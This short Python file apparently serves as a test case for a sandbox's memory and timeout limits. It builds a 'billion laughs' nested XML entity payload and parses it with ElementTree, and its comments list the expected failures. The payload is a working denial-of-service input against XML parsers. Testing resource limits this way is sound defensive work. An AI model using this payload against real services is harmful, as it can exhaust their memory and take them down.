# attack: expand entities a billion times
# outcome: error amplification
# outcome: limit memory limit of 64 MiB reached
# outcome: timeout did not end within
# control: none: libraries differ in what they stop
# limits: timeout_seconds = 20, memory_mib = 64

import xml.etree.ElementTree as ElementTree

entities = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(10))
text = f'<!DOCTYPE a [<!ENTITY a0 "aaaaaaaaaa">{entities}]><a>&a10;</a>'
len(ElementTree.fromstring(text).text)
